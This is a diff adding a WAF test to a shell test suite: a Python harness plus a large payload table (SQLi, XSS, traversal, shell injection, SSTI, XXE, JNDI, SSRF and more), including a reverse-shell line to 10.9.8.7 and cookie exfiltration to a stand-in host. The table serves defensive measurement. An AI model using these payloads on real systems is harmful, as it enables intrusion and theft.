@@ -7624,6 +7624,16 @@ test_workers_killed_under_load_lose_only_what_was_theirs() {
 
 # ---- attacks: --waf ----
 
+# What is sent, and how much of it has to be refused, is a table, waf_cases, at the end of this file. WAF_TABLE=FILE shows it.
+test_attacks_are_refused_and_what_is_like_them_is_not() {
+	need python3
+	start -r /=200:x --waf block
+	python3 "$raw/wafcase.py" "$port" "$raw/waf.txt" ${WAF_TABLE:+all} >rates 2>&1
+	status=$?
+	[ -z "${WAF_TABLE-}" ] || cat rates >"$WAF_TABLE"
+	[ $status = 0 ] || fail "$(cat rates)"
+}
+
 test_a_lookup_of_a_date_that_is_empty_is_read() {
 	start -r /=200:x --waf block
 	for value in "\${date:'}" "\${\${date:'}jndi:x}" "\${date:}" "x\${date:'}}}" "\${date:''}"; do
@@ -20791,6 +20801,1137 @@ if __name__ == '__main__':
 SPELLED_PY
 }
 
+wafcase_py() { cat <<'WAFCASE_PY'
+# wafcase - send what wafcases has to a proxy with --waf, and count what was refused
+#
+#   wafcase PORT TABLE [all]     "all" (or a floor not reached) prints what went the other way
+#
+# A group begins with ":attack CLASS HALF BOUND" or ":benign CLASS HALF BOUND": of 100 attacks at least so many have to be
+# refused, of 100 others at most so many, in both halves together. The half "tune" may be looked at when detectors are
+# changed, "kept" is to tell whether that helps in general. A line is a value, or a place, a tab and what stands there as on
+# the wire; <U+2014> is that character. Values go into queries, forms and JSON in turn.
+import http.client, json, re, sys
+from urllib.parse import quote
+
+def sendings(name, lines):
+    for i, line in enumerate(lines):
+        line = re.sub('<U\\+([0-9A-F]+)>', lambda m: chr(int(m[1], 16)), line)
+        place, _, text = line.partition('\t')
+        if not re.fullmatch('query|path|cookie|header(:[A-Za-z-]+)?|form|json|xml|multipart', place):
+            place, text = ('query', 'form', 'json')[i % 3], line
+            if name == 'xxe' and '<' in text:
+                place = 'xml'
+            elif name == 'prototype-pollution' and '=' in text and text[0] not in '{?#':
+                place, text = 'query', '='.join(quote(t, "%[]'") for t in text.split('=', 1))
+            elif text[0] == '{' and name in ('nosql', 'prototype-pollution'):
+                place = 'json'
+            elif name == 'nosql' and re.match(r'\w+(\[\w*\])*\[\$\w+\].*=', text):
+                place, text = 'query', text.replace(' ', '%20')
+            elif re.search('%[0-9a-fA-Fu]{2}', text) and name in ('traversal', 'ssi-crlf', 'xss', 'sqli', 'ssrf', 'ldap', 'jndi', 'sysfiles'):
+                place, text = 'query', 'q=' + re.sub('[^!-~]|[&+#]', lambda m: quote(m[0]), text)
+            elif place == 'json':
+                text = json.dumps({'q': text}, ensure_ascii=False)
+            else:
+                text = 'q=' + quote(text, '')
+        yield line, place, text.encode()
+
+def request(place, text):
+    method, path, content = 'GET', b'/', None
+    fields = {'Host': b'shop.example', 'User-Agent': b'Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0'}
+    if place == 'query':
+        path = b'/list?' + text
+    elif place == 'path':
+        path = text
+    elif place == 'cookie':
+        fields['Cookie'] = text
+    elif place == 'header':
+        field, text = text.split(b':', 1)
+        fields[field.decode()] = text.strip()
+    elif place.startswith('header:'):
+        fields[place[7:]] = text
+    else:
+        method, content = 'POST', text
+        fields['Content-Type'] = {'form': b'application/x-www-form-urlencoded', 'json': b'application/json', 'xml': b'application/xml',
+                                  'multipart': b'multipart/form-data; boundary=----a7Qx'}[place]
+        if place == 'multipart':
+            head, value = (text, b'hello') if text.startswith(b'filename') else (b'', text)
+            content = b'------a7Qx\r\nContent-Disposition: form-data; name="f"; ' + head + b'\r\n\r\n' + value + b'\r\n------a7Qx--\r\n'
+    return method, path, content, fields
+
+class Raw(http.client.HTTPConnection):                   # what is sent is what stands there
+    def _encode_request(self, r):
+        return r.encode('latin-1')
+    def _validate_path(self, path):
+        pass
+
+groups = {}
+for line in open(sys.argv[2], encoding='ascii'):
+    line = line.rstrip('\n')
+    if line.startswith((':attack ', ':benign ')):
+        kind, name, half, bound = line[1:].split()
+        groups.setdefault((kind, name), [float(bound), {}])[1][half] = lines = []
+    elif line:
+        lines.append(line)
+c = Raw('127.0.0.1', int(sys.argv[1]), timeout=15)
+failed, counts = 0, {'attack': 0, 'benign': 0}
+for (kind, name), (bound, halves) in groups.items():
+    told, sent, refused, wrong = '', 0, 0, []
+    for half, lines in halves.items():
+        n = 0
+        for line, place, text in sendings(name, lines):
+            method, path, content, fields = request(place, text)
+            try:
+                c.putrequest(method, path.decode('latin-1'), skip_host=True, skip_accept_encoding=True)
+                for field, value in fields.items():
+                    c.putheader(field, value)
+                if content is not None:
+                    c.putheader('Content-Length', str(len(content)))
+                c.endheaders(content)
+                answer = c.getresponse()
+                answer.read()
+                status = answer.status
+            except ValueError as why:                    # no client sends this
+                sys.exit('wafcase: %r: %s' % (line, why))
+            if status == 400 and kind == 'attack':       # refused by its syntax already
+                status = 403
+            if status not in (200, 403):
+                sys.exit('wafcase: status %d for %s %r' % (status, place, line))
+            n += status == 403
+            if (status == 403) != (kind == 'attack'):
+                wrong.append('    %s: %s: %s' % (half, place, line))
+        told += '  %s %d/%d' % (half, n, len(lines))
+        sent, refused = sent + len(lines), refused + n
+    counts[kind] += sent
+    rate = 100 * refused / sent
+    bad = rate < bound if kind == 'attack' else rate > bound
+    failed |= bad
+    print('%s %s %s: %.1f%% refused, %s %g%%;%s' % ('not ok' if bad else 'ok', kind, name, rate,
+          'at least' if kind == 'attack' else 'at most', bound, told))
+    if bad or 'all' in sys.argv[3:]:
+        print(*wrong, sep='\n')
+if counts['attack'] < 320 or counts['benign'] < 320 or len(groups) < 20:
+    print('not ok: they are', counts, len(groups))
+    failed = 1
+sys.exit(failed)
+WAFCASE_PY
+}
+
+# Written for these tests. CRS at its first level stops, of others like them, 83% of sqli, 90% of xss, 96% of traversal, 94% of
+# template, 20% of ldap and xxe; and 7, 52, 9 and 9% of ordinary, hard, tricky and technical requests.
+waf_cases() { cat <<'WAF_CASES'
+:attack sqli tune 92
+17 AND 1=1
+31 OR 7=7
+' OR 42=42 -- -
+12 UNION SELECT 1,2,3
+0 UNION DISTINCT SELECT table_name,2 FROM information_schema.tables
+9; UPDATE staff SET role='admin' WHERE id=9
+4' AND SLEEP(3)--<U+20>
+1); WAITFOR DELAY '00:00:04'--
+1' AND UPDATEXML(2,CONCAT(0x5c,database()),4)--<U+20>
+pen' AND SUBSTR(password,1,1)='f
+1 RLIKE (SELECT (CASE WHEN (5=5) THEN 1 ELSE 0x28 END))
+x' OR id IS NOT NULL--
+red'||(SELECT '' FROM dual)||'
+1 AND @@servername LIKE 'p%'
+1; DECLARE @v varchar(99); SET @v=0x73656c656374; EXEC(@v)
+1 XOR 1=1
+:attack sqli kept 92
+17 AND 3=4
+5 GROUP BY 1,2,3,4--
+" OR "k"="k
+1)) OR 3=3 LIMIT 1 -- x
+99' UNION SELECT banner,NULL FROM v$version--
+lamp'; INSERT INTO users(name,pw) VALUES('eve','eve')--<U+20>
+4 AND SLEEP(6)
+20'; SELECT pg_sleep(5)--
+5 AND 1=CONVERT(int,@@version)
+3 AND ASCII(SUBSTRING((SELECT pw FROM users LIMIT 1),2,1))>77
+(SELECT CASE WHEN (4=4) THEN 4 ELSE 1/0 END)
+' OR 1 IN (1,2)--<U+20>
+red'/**/OR/**/11=11/**/--/**/
+-3 OR 17-3=14
+"; DROP DATABASE shop; --
+admin" AND 3=3#
+:attack xss tune 92
+<script>alert(31)</script>
+"><script>confirm('k')</script>
+</title><script>alert(5)</script>
+<img src=q onerror=alert(9)>
+"><img src=x: onerror=prompt(4)>
+<svg onload=alert(6)>
+<svg><animate onbegin=alert(3) attributeName=x dur=1s>
+<svg><a xlink:href="javascript:alert(2)"><text y=20>go</text></a></svg>
+<body onpageshow=prompt(1)>
+<marquee onstart=confirm(8)>hey</marquee>
+<audio autoplay onloadstart=alert(2) src=a>
+<input autofocus onfocus=alert(77)>
+<textarea onfocus=alert(19) autofocus></textarea>
+<form action="javascript:alert(10)"><input type=submit></form>
+<iframe srcdoc="<script>parent.alert(1)</script>">
+<object data="data:text/html,<script>alert(3)</script>">
+<base href="//bad.test/">
+<link rel=stylesheet href=//bad.test/c.css>
+<a href=" javascript:confirm(1)">more</a>
+<a href="java&#10;script:alert(5)">nl</a>
+<a href="data:text/html,<svg onload=alert(1)>">d</a>
+JaVaScRiPt:prompt(6)
+j a v a s c r i p t:alert(5)
+');alert(23);//
+"-confirm(14)-"
+'});alert(3);//
+${alert(17)}
+\";alert(2);//
+</script><svg onload=confirm(1)>
+' onfocus='alert(6)' autofocus='
+x onpointerenter=alert(5) y
+<style>@keyframes w{}</style><b style="animation-name:w" onanimationend="alert(4)">t</b>
+<div style="width:expression(alert(20))">
+<div onwheel=alert(2) style=height:9999px>scroll</div>
+<xyz tabindex=1 onfocus=alert(8)>q</xyz>
+<math><mtext><mglyph><style><img src=w onerror=alert(3)></style></mglyph></mtext></math>
+<!--><img src=o onerror=alert(24)>-->
+<img src=x onerror="window['al'+'ert'](8)">
+<svg onload="[4].find(confirm)">
+<script>new Function('ale'+'rt(7)')()</script>
+<script>import('//bad.test/m.js')</script>
+{{constructor.constructor('alert(4)')()}}
+<div v-html="'<img src=v onerror=alert(2)>'"></div>
+[read](javascript:alert(35))
+<<script>alert(27);//<</script>
+eval(String.fromCharCode(97,108,101,114,116,40,50,41));
+:attack xss kept 92
+<SCRIPT SRC=//cdn.bad.test/p.js></SCRIPT>
+'><script>prompt(document.domain)</script>
+</textarea><script>fetch('//log.bad.test/?'+document.cookie)</script>
+<img src="nope" onerror="confirm(2)">
+<img/src=z/onerror=alert`8`>
+<svg/onload=confirm(location)>
+<svg><script>alert&#40;7&#41;</script></svg>
+<body onload=alert(12)>
+<details open ontoggle=alert(44)>
+<video src=n onerror=alert(15)></video>
+<video><source onerror="alert(22)">
+<select autofocus onfocus=confirm(3)>
+<button formaction=javascript:alert(4)>press</button>
+<iframe src="javascript:alert(13)"></iframe>
+<object data="javascript:alert(21)"></object>
+<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgyKTwvc2NyaXB0Pg==">
+<meta http-equiv="refresh" content="0;url=javascript:alert(7)">
+<a href="javascript:alert(16)">more</a>
+<a href="jav	ascript:alert(18)">tab</a>
+<a href="vbscript:msgbox(3)">old</a>
+javascript:alert(document.domain)
+javascript://shop.test/%0aalert(4)
+");alert(1)//
+'-alert(8)-'
+";alert(document.cookie);var w="
+"}]});prompt(9)//
+`;alert(26)//
+</script><script>alert(29)</script>
+" onmouseover="alert(33)
+" autofocus onfocus=prompt(3) x="
+" style="animation-name:spin" onanimationstart="alert(11)
+<style>@import'//bad.test/z.css';</style>
+<div style="background:url(javascript:alert(9))">
+<p onclick="eval(name)">hit</p>
+<isindex type=image src=1 onerror=alert(14)>
+<noscript><p title="</noscript><img src=r onerror=alert(6)>">
+<template><script>alert(1)</script></template><img src=e onerror=confirm(5)>
+<img src=x onerror=eval(atob('YWxlcnQoMyk='))>
+<svg onload="top[/al/.source+/ert/.source](2)">
+<script>setTimeout('alert(41)',9)</script>
+<script x>onerror=alert;throw 12</script>
+<div ng-app ng-csp>{{$on.constructor('alert(6)')()}}</div>
+<a onmouseenter=location='//bad.test/?c='+document.cookie>
+<scr<script>ipt>alert(5)</scr</script>ipt>
+<img src=x onerror=alert(1)//
+:attack traversal tune 97
+../../../../etc/passwd
+../../../var/log/syslog
+../../.env
+..\..\..\windows\win.ini
+..\..\..\..\windows\system32\drivers\etc\hosts
+docs/guide/../../../../../etc/group
+....//....//....//etc/passwd
+..././..././..././etc/issue
+..//..//..//etc//passwd
+/var/www/html/../../../etc/crontab
+\\10.1.2.3\share\run.dll
+//?/C:/windows/win.ini
+/assets/..;/..;/manager/html
+..;/..;/WEB-INF/web.xml
+%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
+%2e%2e/%2e%2e/%2e%2e/etc/group
+..%252f..%252f..%252fetc%252fpasswd
+..%c0%af..%c0%af..%c0%afetc/passwd
+..%c1%9c..%c1%9cwindows/win.ini
+..%u2215..%u2215..%u2215etc%u2215passwd
+../../../etc/passwd%00.png
+../../../../etc/passwd/./././.
+../../usr/local/tomcat/conf/tomcat-users.xml
+./../.././../etc/passwd
+:attack traversal kept 97
+../../../../../../etc/shadow
+../config/database.yml
+../.git/config
+..\..\boot.ini
+images/../../../../etc/hosts
+static/..\..\..\windows\system.ini
+....\\....\\....\\windows\win.ini
+.././.././.././etc/fstab
+/../../../../proc/self/environ
+C:\inetpub\wwwroot\..\..\windows\win.ini
+\\files.bad.test\c$\boot.ini
+file:///../../etc/motd
+/app/..;/admin/status
+../WEB-INF/classes/application.properties
+..%2f..%2f..%2fetc%2fhosts
+..%5c..%5c..%5cwindows%5cwin.ini
+%252e%252e%255c%252e%252e%255cboot.ini
+%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue
+..%e0%80%af..%e0%80%afetc/hosts
+..%u2216..%u2216boot.ini
+../../../../etc/hosts%00
+../../../../../../../../tmp/sess_a91c
+/..\../..\../etc/passwd
+:attack sysfiles tune 85
+/etc/passwd
+/etc/hosts
+/etc/./passwd
+/proc/self/fd/7
+/proc/1/maps
+/var/lib/mlocate/mlocate.db
+C:/boot.ini
+C:\Windows\repair\system
+%SYSTEMROOT%\win.ini
+/.git/HEAD
+/.htpasswd
+/wp-config.php.bak
+:attack sysfiles kept 85
+/etc/shadow
+/etc/ssh/sshd_config
+//etc//group
+/proc/self/cmdline
+/var/log/apache2/access.log
+/var/log/auth.log
+c:\windows\system32\config\SAM
+D:\inetpub\wwwroot\web.config
+file:///etc/passwd
+/.env
+/.svn/entries
+/usr/local/apache2/conf/httpd.conf
+:attack shell tune 85
+;id
+&& ls /etc
+photo.png;uname -r
+1 | sleep 5
+$(id)
+;cat</etc/passwd
+;c''at /etc/hosts
+;X=$'cat\x20/etc/hosts';$X
+;nc 10.9.8.7 4455 -e /bin/sh
+; nslookup k3.bad.test
+&dir C:\
+|systeminfo
+;powershell Get-ChildItem
+";ls;"
+;env
+;chmod 777 /tmp/u
+:attack shell kept 85
+; id
+|| whoami
+host.test && cat /etc/hosts
+& ping -c 4 127.0.0.1 &
+$(sleep 4)
+; cat /e?c/p?sswd
+;w"h"oami
+;echo aWQ=|base64 -d|sh
+;bash -i >& /dev/tcp/10.9.8.7/4455 0>&1
+|nslookup q.bad.test||
+| type C:\windows\win.ini
+& timeout /t 6
+&cmd /c set
+'|id|'
+|printenv HOME
+|tee /tmp/out
+:attack php-code tune 85
+<?php phpinfo(); ?>
+<?= `id` ?>
+<?php @assert($_POST['zz']); ?>
+${@phpinfo()}
+".system('id')."
+exec("uname -r");
+$f='sys'.'tem';$f('ls');
+php://filter/convert.base64-encode/resource=index.php
+data:text/plain,<?php echo 7; ?>
+phar://uploads/a.jpg/t.txt
+O:21:"JDatabaseDriverMysqli":1:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}
+include('http://bad.test/r.txt');
+:attack php-code kept 85
+<?php system($_GET['k']);?>
+<?=shell_exec('uname -a')?>
+<script language="php">system('id');</script>
+{${system('id')}}
+'.passthru('ls').'
+print(file_get_contents('/etc/hosts'));
+($_GET[0])($_GET[1]);
+php://filter/read=string.rot13/resource=../conf.php
+expect://id
+zip://up/b.zip#c.php
+auto_prepend_file=php://input
+var_dump(scandir('/'));
+:attack node-java-code tune 85
+require('child_process').execSync('id')
+global.process.mainModule.require('child_process').exec('ls')
+';process.exit(3);//
+import('child_process').then(m=>m.execSync('whoami'))
+java.lang.Runtime.getRuntime().exec("id")
+%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}
+${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream()))}
+"".class.forName("javax.script.ScriptEngineManager").newInstance()
+javax.naming.InitialContext.doLookup("rmi://bad.test/o")
+{"@type":"java.net.Inet4Address","val":"f1.bad.test"}
+__import__('os').system('id')
+cos\nsystem\n(S'id'\ntR.
+:attack node-java-code kept 85
+require("fs").readFileSync('/etc/hosts','utf8')
+process.mainModule.constructor._load('child_process').spawnSync('id')
+res.end(require('os').hostname())
+new Function("return process.binding('spawn_sync')")()
+new java.lang.ProcessBuilder("ls","-l").start()
+%{#context['xwork.MethodAccessor.denyMethodExecution']=false}
+class.module.classLoader.resources.context.parent.pipeline.first.pattern=zz
+"cmd".execute().text
+new javax.script.ScriptEngineManager().getEngineByName("js").eval("7*9")
+["org.springframework.context.support.ClassPathXmlApplicationContext","http://bad.test/s.xml"]
+__import__("subprocess").check_output(["ls"])
+System.Diagnostics.Process.Start("cmd.exe","/c dir")
+:attack template tune 90
+{{7*7}}
+${7*7}
+#{5*11}
+@(3*17)
+<%= system('id') %>
+<% out.print(9*9); %>
+{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{c}}{% endfor %}
+{{config.items()}}
+{{request.application.__globals__.__builtins__.__import__('os').popen('ls').read()}}
+{{ cycler.__init__.__globals__.os.popen('uname').read() }}
+{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
+{{ namespace.__init__ }}
+{{['id']|filter('system')}}
+{{app.request.server.all|join(',')}}
+{system('ls')}
+{Smarty_Internal_Write_File::writeFile('k.php','x',self::clearConfig())}
+${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","ls").start()}
+#set($z=6*8)$z
+$class.inspect('java.lang.System')
+${T(java.lang.System).getenv()}
+${pageContext.request.getSession().setAttribute('a','b')}
+<%import os%>${os.popen('ls').read()}
+#{root.process.mainModule.require('child_process').execSync('id')}
+{{ variable.getClass().forName('java.lang.Runtime') }}
+@{System.Diagnostics.Process.Start("cmd")}
+{@math key="7" method="multiply" operand="9"/}
+{% include '/etc/hosts' %}
+:attack template kept 90
+{{ 8*'3' }}
+${{6*9}}
+*{4*13}
+<%= 7*7 %>
+<%= File.open('/etc/hosts').read %>
+{% if 4*4==16 %}k{% endif %}
+{{config}}
+{{ self.__init__.__globals__.os.popen('id').read() }}
+{{''.__class__.__base__.__subclasses__()[132]}}
+{{ lipsum|attr('__globals__') }}
+{{ [].__class__.__base__ }}
+{{_self.env.registerUndefinedFilterCallback("system")}}{{_self.env.getFilter("id")}}
+{{['ls','']|sort('passthru')}}
+{php}echo `id`;{/php}
+{$smarty.version}
+<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}
+[#assign q='freemarker.template.utility.Execute'?new()]${q('whoami')}
+#set($r=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))
+__${T(java.lang.Runtime).getRuntime().exec('id')}__::.k
+#{''.getClass().forName('java.lang.Runtime')}
+${self.module.cache.util.os.system('id')}
+{{#with "q" as |s|}}{{#with split as |c|}}{{this.push "return require('child_process')"}}{{/with}}{{/with}}
+{{range.constructor("return global.process.env")()}}
+{{= global.process.version }}
+{{ printf "%s" .Env }}{{ .System "id" }}
+{% debug %}
+{{ get_flashed_messages.__globals__['current_app'].config }}
+:attack nosql tune 85
+{"$gt":""}
+{"login":"root","pw":{"$regex":"^s.*"}}
+{"$and":[{"role":{"$in":["admin"]}},{"x":{"$ne":9}}]}
+{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}
+pw[$regex]=^a
+filter[$or][0][a]=1
+' || 'x'=='x' || 'y'=='y
+1; sleep(5000)
+' || this.role=='admin' || 'a'=='b
+'}, $or: [ {}, { 'z':'z
+db.users.find({}).forEach(printjson)
+{"selector":{"_id":{"$gt":null}}}
+:attack nosql kept 85
+{"$ne":null}
+{"name":{"$nin":["a","b"]}}
+{"$where":"this.credits>3"}
+{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}
+login[$gt]=&pass[$gt]=
+age[$exists]=true
+" || "m"=="m
+1'; sleep(3000); var z='
+true, $where: '3 == 3'
+'} , {'$ne': 5}, {'k':'
+';db.accounts.drop();var q='
+{"script_fields":{"k":{"script":{"lang":"painless","source":"8*8"}}}}
+:attack ldap tune 75
+*)(uid=*))(|(uid=*
+*))%00
+admin)(&))
+x)(|(cn=*))
+*)(cn=*))%00
+anna)(userPassword=a*
+(&(uid=eve)(userPassword=*))
+*(|(objectclass=*))
+bob)(&(objectClass=person)(cn=b*
+)(|(uid=*)))(&(k=
+a)(userAccountControl:1.2.840.113556.1.4.803:=2
+o=corp)(&(ou=*)(cn=*)
+:attack ldap kept 75
+*)(&
+*()|&'
+eve*)(mail=*)
+*)(|(objectclass=*)
+)(cn=*
+anna)(userPassword=ab*)
+(|(uid=*)(cn=*))
+*(|(mail=*))
+bob)(|(telephoneNumber=4*
+a)(uid>=a
+a)(uidNumber<=1000)(cn=*
+printer)(type=*))(&(z=1
+:attack xxe tune 95
+<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
+<!DOCTYPE a [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]><a><b>&w;</b></a>
+<!DOCTYPE q PUBLIC "-//K//DTD Q//EN" "http://bad.test/q.dtd"><q/>
+<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/issue"><!ENTITY % e SYSTEM "http://bad.test/e.dtd">%e;%send;]><d>1</d>
+<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><l>&d;</l>
+<!DOCTYPE u [<!ENTITY s SYSTEM "http://localhost:8081/status">]><u name="k">&s;</u>
+<!DOCTYPE t [<!ENTITY p SYSTEM "php://filter/read=convert.base64-encode/resource=conf.php">]><t>&p;</t>
+<!DOCTYPE f [<!ENTITY g SYSTEM "ftp://bad.test:2121/x">]><f>&g;</f>
+<!DOCTYPE g [<!ENTITY o SYSTEM "gopher://10.3.3.3:70/_k">]><g>&o;</g>
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><k><![CDATA[<!DOCTYPE d [<!ENTITY % y SYSTEM "http://bad.test/y"> %y;]><z/>]]></k></soap:Body></soap:Envelope>
+<c xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="http://10.4.4.4/k.xml"/></c>
+<!DOCTYPE h [<!ENTITY k PUBLIC "any" "file:///proc/self/environ">]><h>&k;</h>
+<?xml version="1.0"?><!DOCTYPE   w  [ <!ENTITY   r   SYSTEM   'file:///etc/fstab' > ] ><w>&r;</w>
+<?xml-stylesheet type="text/xsl" href="http://bad.test/s.xsl"?><r/>
+<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AFs +ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACIAPgBdAD4APA-r+AD4AJg-x+ADsAPA-/r+AD4-
+<!DOCTYPE rss [<!ENTITY c SYSTEM "file:///app/config.yml">]><rss version="2.0"><channel><title>&c;</title></channel></rss>
+:attack xxe kept 95
+<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE note [<!ELEMENT note ANY><!ENTITY h SYSTEM "file:///etc/hosts">]><note>&h;</note>
+<!DOCTYPE order SYSTEM "http://bad.test/order.dtd"><order><id>4</id></order>
+<!DOCTYPE d [<!ENTITY % p SYSTEM "http://bad.test/p.dtd"> %p;]><d/>
+<!DOCTYPE m [<!ENTITY % a "<!ENTITY &#37; b SYSTEM 'http://bad.test/?k'>">%a;%b;]><m/>
+<!DOCTYPE u [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><u>&s;</u>
+<!DOCTYPE t [<!ENTITY e SYSTEM "expect://id">]><t>&e;</t>
+<!DOCTYPE j [<!ENTITY z SYSTEM "jar:http://bad.test/k.zip!/m.txt">]><j>&z;</j>
+<!DOCTYPE v [<!ENTITY n SYSTEM "netdoc:/etc/hosts">]><v>&n;</v>
+<?xml version='1.0' standalone='no'?><!DOCTYPE svg [<!ENTITY s SYSTEM 'file:///etc/hostname'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&s;</text></svg>
+<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/group"/></p>
+<z xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"><xi:fallback>no</xi:fallback></xi:include></z>
+<!DOCTYPE i [<!ENTITY t SYSTEM "file:///var/log/syslog">]><i>&t;</i>
+<!DOCTYPE y [<!ATTLIST y a CDATA "1"><!ENTITY l SYSTEM "/etc/resolv.conf">]><y a="2">&l;</y>
+<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document('file:///etc/hosts')"/></xsl:template></xsl:stylesheet>
+<!DOCTYPE e [<!ENTITY u SYSTEM "dev.dat" NDATA gif><!NOTATION gif SYSTEM "http://bad.test/g">]><e/>
+<!DOCTYPE n [<!ENTITY % loc SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr 'q)><!ENTITY &#x25; k SYSTEM "file:///etc/hosts">'>%loc;]><n/>
+:attack jndi tune 95
+${jndi:ldap://k1.bad.test/a}
+${jndi:rmi://k3.bad.test:1099/obj}
+${jndi:iiop://10.4.5.6:900/x}
+${jndi:corba://k6.bad.test/n}
+${jNdI:lDaP://k8.bad.test/q}
+${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://m1.bad.test/r}
+${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://m3.bad.test/t}
+${j${::-n}di:ldap://m5.bad.test/v}
+${${env:NONE:-jn}di:dns://m7.bad.test}
+${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://m9.bad.test/y}
+${jn${lower:d}i:l${lower:d}ap://n2.bad.test/a}
+${jndi:ldap://${env:USER}.n4.bad.test/c}
+${jndi:dns://${hostName}.n6.bad.test/e}
+${${lower:${lower:j}}ndi:ldap://n8.bad.test/g}
+${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:rmi://p1.bad.test/i}
+curl/8 ${jndi:ldap://p3.bad.test/k}
+${jnd${upper:<U+131>}:ldap://p5.bad.test/m}
+${url:UTF-8:http://p6.bad.test/n}
+:attack jndi kept 95
+${jndi:ldaps://k2.bad.test:1636/b}
+${jndi:dns://k4.bad.test}
+${jndi:nis://k5.bad.test/m}
+${JNDI:LDAP://k7.bad.test/p}
+${${lower:j}ndi:ldap://k9.bad.test/a}
+${${upper:j}ndi:${upper:l}dap://m2.bad.test/s}
+${${::-j}ndi:rmi://m4.bad.test/u}
+${${env:QQ:-j}ndi${env:QQ:-:}${env:QQ:-l}dap${env:QQ:-:}//m6.bad.test/w}
+${${sys:zz:-j}ndi:ldap://m8.bad.test/x}
+${${k8s:k5:-j}ndi:ldap://n1.bad.test/z}
+${jndi:ldap://127.0.0.1#n3.bad.test/b}
+${jndi:ldap://${sys:java.version}.n5.bad.test/d}
+${jndi:ldap:${::-/}/n7.bad.test/f}
+${${a:-${b:-j}}ndi:ldap://n9.bad.test/h}
+${${main:x:-j}ndi:${main:y:-ldap}://p2.bad.test/j}
+Mozilla/5.0 (${${lower:J}ndi:ldap://p4.bad.test/l})
+${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
+${dns:address|p7.bad.test}
+:attack ssrf tune 85
+http://169.254.169.254/latest/meta-data/
+http://metadata/computeMetadata/v1/
+http://169.254.169.254/openstack/latest/meta_data.json
+http://[::ffff:169.254.169.254]/
+http://127.0.0.1:6379/
+http://017700000001/
+http://localhost:2375/containers/json
+http://[0:0:0:0:0:ffff:127.0.0.1]/
+http://127.0.0.1.nip.io/
+http://127<U+3002>0<U+3002>0<U+3002>1/
+ldap://127.0.0.1:389/%0astats
+jar:http://127.0.0.1:8080/k.jar!/
+:attack ssrf kept 85
+http://169.254.169.254/latest/meta-data/iam/security-credentials/web
+http://100.100.100.200/latest/meta-data/
+http://[fd00:ec2::254]/latest/user-data
+http://[::ffff:a9fe:a9fe]/latest/
+http://127.1/admin
+http://0177.0.0.01/x
+http://LOCALHOST:8500/v1/agent/self
+http://[::ffff:7f00:1]/k
+http://10-0-0-5.sslip.io/
+http://localhost%2ebad.test@127.0.0.1/
+tftp://10.0.0.8:69/k
+netdoc:///etc/hosts
+:attack ssi-crlf tune 85
+<!--#exec cmd="id" -->
+<!--#include virtual="/etc/hosts" -->
+<!--#config errmsg="k" --><!--#exec cmd="ls -l"-->
+"><!--#exec cmd="uname"-->
+<esi:include src="http://127.0.0.1/k" stylesheet="http://bad.test/s.xsl"/>
+k%0aSet-Cookie:%20role=admin
+%0d%0a%0d%0a<script>alert(2)</script>
+%E5%98%8A%E5%98%8DSet-Cookie:%20z=1
+k\r\nSet-Cookie: j=7
+eve>%0d%0aRCPT TO:<y@bad.test>
+INBOX"%0d%0aA7 LOGIN eve pw
+key%0d%0aset k 0 60 3%0d%0aabc%0d%0a
+:attack ssi-crlf kept 85
+<!--#exec cgi="/cgi-bin/k.sh"-->
+<!--#include file="conf.inc"-->
+<!--#set var="q" value="7" --><!--#echo var="q"-->
+<!--#flastmod virtual="index.html"-->
+<esi:vars>$(HTTP_COOKIE)</esi:vars>
+k%0d%0aSet-Cookie: sid=eve
+x%0d%0aX-Injected: 3
+z%u000d%u000aSet-Cookie: w=4
+v%c4%8d%c4%8aSet-Cookie: o=6
+eve%0d%0a.%0d%0aMAIL FROM:<x@bad.test>
+eve%0d%0aDATA%0d%0aSubject: q%0d%0a%0d%0ahello%0d%0a.
+k%0d%0aTransfer-Encoding: chunked%0d%0a
+:attack prototype-pollution tune 85
+{"__proto__":{"admin":true}}
+{"a":{"__proto__":{"polluted":"y"}}}
+{"constructor.prototype.role":"admin"}
+{"\u005f\u005fproto\u005f\u005f":{"w":1}}
+{"__proto__":{"client":1,"escapeFunction":"JSON.stringify;process.env"}}
+{"__proto__":{"json spaces":8}}
